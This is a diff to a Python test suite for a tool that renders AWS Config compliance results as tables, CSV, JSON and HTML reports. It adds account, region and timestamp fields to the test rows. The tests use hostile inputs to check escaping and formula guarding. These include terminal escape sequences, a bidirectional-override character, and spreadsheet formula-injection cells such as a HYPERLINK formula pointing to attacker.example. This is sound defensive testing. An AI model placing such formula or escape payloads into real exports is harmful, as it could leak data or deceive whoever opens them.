@@ -29,11 +29,14 @@ ESCAPED = ("\\x1b", "\\x07", "\\x0d", "\\u202e", "\\u200b")
 
 def hostile_rows() -> list[dict[str, str]]:
     return [
-        {"rule": "transcribe-job-pii-redaction", "resource_type": "AWS::::Account",
+        {"account": "123456789012", "region": "us-east-1", "evaluated_at": "2026-12-02T12:00:00Z",
+         "rule": "transcribe-job-pii-redaction", "resource_type": "AWS::::Account",
          "resource_id": f"{ARN}/{HOSTILE}", "compliance": "NON_COMPLIANT", "annotation": f"Job {HOSTILE} lacks it."},
-        {"rule": "transcribe-job-pii-redaction", "resource_type": "AWS::::Account",
+        {"account": "123456789012", "region": "us-east-1", "evaluated_at": "2026-12-02T12:00:00Z",
+         "rule": "transcribe-job-pii-redaction", "resource_type": "AWS::::Account",
          "resource_id": f"{ARN}/通話-記録", "compliance": "COMPLIANT", "annotation": "Redaction is on."},
-        {"rule": "transcribe-job-pii-redaction", "resource_type": "AWS::::Account",
+        {"account": "123456789012", "region": "us-east-1", "evaluated_at": "2026-12-02T12:00:00Z",
+         "rule": "transcribe-job-pii-redaction", "resource_type": "AWS::::Account",
          "resource_id": f"{ARN}/plain", "compliance": "NOT_APPLICABLE", "annotation": "Tab\there, line\nthere."},
     ]
 
@@ -65,7 +68,8 @@ def test_table_escapes_every_cell_and_keeps_the_columns_aligned() -> None:
 def test_scan_csv_escapes_and_guards_formula_cells() -> None:
     formulas = ["-2-3", '=HYPERLINK("http://attacker.example/?leak","click")', "+1", "@SUM(1,2)", "\t=1", "\r=1",
                 " =1", "\uff1d1+1"]
-    rows = hostile_rows() + [{"rule": "transcribe-job-pii-redaction", "resource_type": "AWS::::Account",
+    rows = hostile_rows() + [{"account": "123456789012", "region": "us-east-1", "evaluated_at": "2026-12-02T12:00:00Z",
+         "rule": "transcribe-job-pii-redaction", "resource_type": "AWS::::Account",
                               "resource_id": value, "compliance": "NON_COMPLIANT", "annotation": value}
                              for value in formulas]
     text = render(rows, "csv", ["transcribe-job-pii-redaction"])
@@ -100,7 +104,8 @@ def test_scan_json_round_trips_with_every_unsafe_character_escaped() -> None:
     rows = hostile_rows()
     text = render(rows, "json", ["transcribe-job-pii-redaction"])
     assert text.isascii() and "\\u202e" in text and "\\u001b" in text
-    assert json.loads(text)["evaluations"] == rows
+    # Each result comes back exactly, with what findings.enrich adds (status, severity, ...).
+    assert [{k: r[k] for k in rows[0]} for r in json.loads(text)["evaluations"]] == rows
 
 
 def test_json_text_escapes_only_what_is_unsafe_and_round_trips() -> None:
@@ -123,7 +128,8 @@ def test_compliance_table_escapes_what_config_returned() -> None:
     hostile_rule = "other-rule\x1b[2K\x1b[G\u202e"
     compliance = deploy.PackCompliance(
         "transcribe-guard", "50.00", {"transcribe-job-pii-redaction": "NON_COMPLIANT", hostile_rule: "COMPLIANT"},
-        [{"rule": "transcribe-job-pii-redaction", "resource_type": "AWS::::Account", "resource_id": HOSTILE,
+        [{"account": "123456789012", "region": "us-east-1", "evaluated_at": "2026-12-02T12:00:00Z",
+         "rule": "transcribe-job-pii-redaction", "resource_type": "AWS::::Account", "resource_id": HOSTILE,
           "compliance": "NON_COMPLIANT"}])
     text = render_pack_compliance(compliance, "table")
     assert_no_raw(text)
@@ -139,7 +145,8 @@ def test_saved_report_with_hostile_rows_makes_a_bundle_that_shows_them_escaped(t
     """Through the real CLI: a saved `scan --format json` (which anyone could have edited) into
     `evidence --from FILE`; evidence.json keeps the values exactly, evidence.csv and report.html
     show them escaped and guarded."""
-    rows = hostile_rows() + [{"rule": "transcribe-job-pii-redaction", "resource_type": "AWS::::Account",
+    rows = hostile_rows() + [{"account": "123456789012", "region": "us-east-1", "evaluated_at": "2026-12-02T12:00:00Z",
+         "rule": "transcribe-job-pii-redaction", "resource_type": "AWS::::Account",
                               "resource_id": "=HYPERLINK(\"http://attacker.example\")", "compliance": "NON_COMPLIANT",
                               "annotation": "-2-3"}]
     saved = tmp_path / "scan.json"
